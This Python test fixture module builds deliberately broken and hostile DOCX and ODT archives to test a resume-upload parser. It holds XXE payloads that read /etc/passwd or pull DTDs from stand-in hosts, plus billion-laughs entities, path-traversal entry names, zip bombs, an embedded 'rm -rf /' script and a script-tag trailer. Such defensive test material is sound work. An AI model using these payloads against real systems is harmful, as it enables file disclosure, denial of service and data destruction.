"""ZIPs whose structure lies, and XML that is no good, in what would be documents."""

import struct
from collections.abc import Iterator

from applications.tests.resume_packages import (
    Entry,
    Parts,
    docx_parts,
    entries_of,
    odt_parts,
    written,
    zipped,
)

LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
ENTITIES = {
    "laughs": LAUGHS,
    "outside": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "parameter": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://e.example/x">%p;]><a/>',
    "type only": b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    "UTF-16": LAUGHS.decode().encode("utf-16"),
}
BROKEN_XML = {
    "cut": b"<a><b>",
    "blank": b" ",
    "two roots": b"<a/><b/>",
    "UTF-7": b'<?xml version="1.0" encoding="utf-7"?><a/>',
    "an odd encoding": b'<?xml version="1.0" encoding="unicode_escape"?><a/>',
    "NUL": b"<a>\0</a>",
    "not UTF-8": b"<a>\xff\xfe\xfd</a>",
    "unknown entity": b"<a>&nbsp;</a>",
    "deep": b"<a>" * 300 + b"</a>" * 300,
    "twice the attribute": b'<a b="1" b="2"/>',
}
BAD_NAMES = (
    b"../evil.xml", b"/etc/passwd", b"word/../../evil", b"C:\\evil.xml", b"a\\b.xml",
    b"word/./x.xml", b"word//x.xml", b"a\0.xml", b"x\n.xml", b"..", b"\\\\evil\\x", b"",
)  # fmt: skip
INSIDE = {
    "a ZIP": zipped({"a": b"b"}),
    "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "a PDF": b"%PDF-1.7\n%%EOF",
    "a program": b"MZ\x90\0" + bytes(60),
    "an ELF": b"\x7fELF\x02\x01\x01" + bytes(60),
    "an RTF": b"{\\rtf1 x}",
    "a script": b"#!/bin/sh\nrm -rf /\n",
}


def hollow() -> Iterator[tuple[str, bytes]]:
    """Yield ZIPs whose structure lies; what they hold would be a good document."""
    for kind, parts in (("docx", docx_parts()), ("odt", odt_parts())):
        whole, entries = zipped(parts), entries_of(parts)
        for part in range(1, 12):
            yield f"{kind} cut at {part}/12", whole[: len(whole) * part // 12]
        yield f"{kind} one byte short", whole[:-1]
        yield f"{kind} something before", b"MZ\x90\0 " + whole
        yield f"{kind} nothing but NUL before", b"\0" * 40 + whole
        yield f"{kind} something after", whole + b"<script>alert(1)</script>"
        yield f"{kind} another after", whole + whole
        yield f"{kind} a comment", written(entries, end=b"%PDF-1.7 hello")
        yield f"{kind} on another disk", written(entries, disk=1)
        yield f"{kind} fewer entries than it says", written(entries, count=99)
        yield f"{kind} directory elsewhere", written(entries, offset=7)
        last = entries[-1]
        lies: dict[str, dict[str, object]] = {
            "smaller": {"size": 5, "header_size": 5},
            "larger": {"size": 90_000, "header_size": 90_000},
            "ZIP64": {"size": 0xFFFFFFFF},
            "size in one place": {"header_size": 3},
            "check sum": {"crc": 7},
            "name in one place": {"header_name": b"x" * len(last.name)},
            "encrypted": {"flags": 1},
            "strongly encrypted": {"flags": 0x41},
            "bzip2": {"method": 12},
            "LZMA": {"method": 14},
            "AES": {"method": 99},
            "a link": {"attributes": 0o120777 << 16},
            "room behind it": {"gap": b"hidden " * 9},
        }
        for lie, changes in lies.items():
            lying = Entry(last.name, last.content, **changes)  # type: ignore[arg-type]  # a table of mixed fields
            yield f"{kind} {lie}", written([*entries[:-1], lying])
        yield f"{kind} a name twice", written([*entries, last])
        upper = Entry(last.name.upper(), last.content)
        yield f"{kind} a name in capitals", written([*entries, upper])
        again = Entry(b"again.xml", last.content, at=0)
        yield f"{kind} two in one place", written([*entries, again])
        for name in BAD_NAMES:
            yield f"{kind} named {name!r}", written([*entries, Entry(name, b"<a/>")])
        for name, content in INSIDE.items():
            held = Entry(b"media/image1.png", content)
            yield f"{kind} holding {name}", written([*entries, held])
        for name, content in {**ENTITIES, **BROKEN_XML}.items():
            yield f"{kind} XML: {name}", zipped({**parts, "extra/item1.xml": content})
        first = "word/document.xml" if kind == "docx" else "content.xml"
        yield f"{kind} laughs", zipped({**parts, first: LAUGHS})
        huge = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">2L", 60_000, 60_000)
        yield f"{kind} huge picture", zipped({**parts, "media/a.png": huge + bytes(9)})
        yield from growing(kind, parts)


def growing(kind: str, parts: Parts) -> Iterator[tuple[str, bytes]]:
    """Yield what is small here and large where it is unpacked."""
    entries = entries_of(parts)
    zeros = Entry(b"a.xml", bytes(40 * 1024 * 1024))
    yield f"{kind} bomb", written([*entries, zeros])
    most = [Entry(b"%d.xml" % n, b"<a/>") for n in range(2_100)]
    yield f"{kind} 2,100 parts", written([*entries, *most])
    # One kernel of data, told of by many entries: each of them is 10 MB.
    kernel = Entry(b"k", bytes(10 * 1024 * 1024))
    at = len(written(entries)) - 22 - sum(46 + len(e.name) for e in entries)
    again = [Entry(b"k%d" % n, kernel.content, at=at) for n in range(5)]
    yield f"{kind} overlapping bomb", written([*entries, kernel, *again])
    spaces = Entry(b"a.xml", b"<a>" + b" " * (3 * 1024 * 1024) + b"</a>")
    yield f"{kind} spaces", written([*entries, spaces])
